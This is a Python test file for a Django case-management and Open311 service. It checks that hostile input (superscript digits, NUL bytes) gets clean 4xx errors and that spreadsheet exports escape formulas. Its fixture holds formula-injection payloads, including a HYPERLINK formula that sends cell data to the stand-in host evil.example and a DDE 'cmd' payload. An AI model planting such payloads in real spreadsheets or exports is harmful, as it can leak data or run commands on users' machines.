"""Adversarial input found in the security review: each of these answered a 500 (or exported a live
formula) before the fix. Bad input is a 4xx in the caller's format, never a 500."""

import csv
import io
import subprocess
import sys

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

pytestmark = pytest.mark.django_db


def _api(user=None):
    client = APIClient()
    if user is not None:
        client.credentials(HTTP_AUTHORIZATION="Token " + Token.objects.get_or_create(user=user)[0].key)
    return client


# --- Digits that str.isdigit() accepts but int() refuses -----------------------------------------

@pytest.mark.parametrize("url", [
    "/api/v1/cases/?page_size=²",
    "/api/v1/items/search/?q=食品&limit=²",
    "/api/v1/items/search/?q=食品&unit=²",
])
def test_superscript_digits_in_api_parameters_are_a_400_field_error(org, duty, url):
    response = _api(org.dispatcher).get(url)
    assert response.status_code == 400
    assert response.json()["code"] == "invalid"


def test_superscript_version_id_in_api_diff_is_a_400(org, duty):
    response = _api(org.editor).get(f"/api/v1/versions/{duty.version.pk}/diff/?against=²")
    assert response.status_code == 400
    assert "against" in response.json()["errors"]


def test_superscript_open311_token_is_a_404_not_a_500(db):
    response = APIClient().get("/open311/v2/tokens/².json")
    assert response.status_code == 404
    assert response.json()[0]["code"] == 404


# --- NUL characters (PostgreSQL text cannot hold them) -------------------------------------------

def test_nul_in_a_search_box_is_the_400_page_not_a_500(org, client_for):
    response = client_for(org.reporter).get("/cases/report/is-ours/", {"q": "油烟\x00"})
    assert response.status_code == 400


def test_nul_in_an_api_query_is_the_api_error_body(org):
    response = _api(org.dispatcher).get("/api/v1/cases/", {"q": "a\x00b"})
    assert response.status_code == 400
    assert response.json()["code"] == "invalid"


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_nul_in_open311_parameters_is_an_open311_error_in_the_asked_format(db, fmt):
    response = APIClient().get(f"/open311/v2/requests.{fmt}", {"service_request_id": "\x00"})
    assert response.status_code == 400
    if fmt == "json":
        assert response.json()[0]["code"] == 400
    else:
        assert b"<errors>" in response.content


def test_nul_in_an_open311_plain_text_body_is_refused_and_nothing_is_saved(org, duty):
    from cases.models import Case

    response = APIClient().generic(
        "POST", "/open311/v2/requests.json", "api_key=x&service_code=A-001&description=a%00b", content_type="text/plain"
    )
    assert response.status_code == 400
    assert not Case.objects.exists()


def test_nul_in_a_posted_form_field_is_a_400_and_no_case_is_written(org, client_for):
    from cases.models import Case

    response = client_for(org.reporter).post("/cases/report/", {
        "township": org.township.pk, "title": "标题\x00", "description": "描述", "address": "地点", "urgency": "normal",
    })
    assert response.status_code == 400
    assert not Case.objects.exists()


# --- Residents' phone numbers -----------------------------------------------------------------------

def test_resident_phone_accepts_only_ascii_digits(org):
    from cases import services

    with pytest.raises(ValidationError) as caught:
        services.case_report(actor=org.reporter, township=org.township, title="t", description="d", address="a",
                             channel="resident", resident_name="张三", resident_phone="¹³⁸")
    assert "resident_phone" in caught.value.error_dict


# --- Spreadsheet export: CSV/Excel formula injection --------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def poisoned_version(org):
    from responsibilities import services as list_services
    from responsibilities.models import Category, ItemKind

    duty_list = list_services.list_create(actor=org.editor, code="poison", name="测试清单", level="township",
                                          jurisdiction=org.county)
    draft = duty_list.versions.get()
    list_services.list_item_add(version=draft, actor=org.editor, code="B-001", title=FORMULA, kind=ItemKind.BASIC,
                                category=Category.SERVICE, keywords="@SUM(1+1)", description="-2+3",
                                legal_basis="+cmd|' /C calc'!A0")
    import datetime

    return list_services.list_publish(version=draft, actor=org.editor, effective_date=datetime.date(2026, 1, 1))


def test_csv_export_neutralises_cells_that_would_run_as_formulas(poisoned_version, client):
    response = client.get("/lists/poison/v/1/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_xlsx_export_writes_formula_like_text_as_text(poisoned_version, client):
    response = client.get("/lists/poison/v/1/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_exported_file_imports_back_to_the_original_text(poisoned_version, client):
    from responsibilities import imports

    response = client.get("/lists/poison/v/1/export.csv")
    upload = io.BytesIO(response.content)
    upload.name = "poison.csv"
    upload.size = len(response.content)
    dataset = imports.load_upload(upload)
    assert imports._text(dataset[0][1]) == FORMULA


# --- Settings --------------------------------------------------------------------------------------

def test_production_settings_refuse_to_start_without_a_secret_key(tmp_path):
    import os

    env = {k: v for k, v in os.environ.items() if k != "SECRET_KEY"}
    env.update(DEBUG="0", DJANGO_SETTINGS_MODULE="config.settings")
    result = subprocess.run([sys.executable, "-c", "import django; django.setup()"], env=env, capture_output=True,
                            text=True, timeout=60)
    assert result.returncode != 0
    assert "SECRET_KEY must be set" in result.stderr


def test_security_headers_and_cookie_flags(client, settings):
    response = client.get("/lists/")
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert settings.SESSION_COOKIE_HTTPONLY


def test_admin_refuses_signed_in_non_staff(org, client_for):
    response = client_for(org.supervisor).get("/admin/cases/case/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
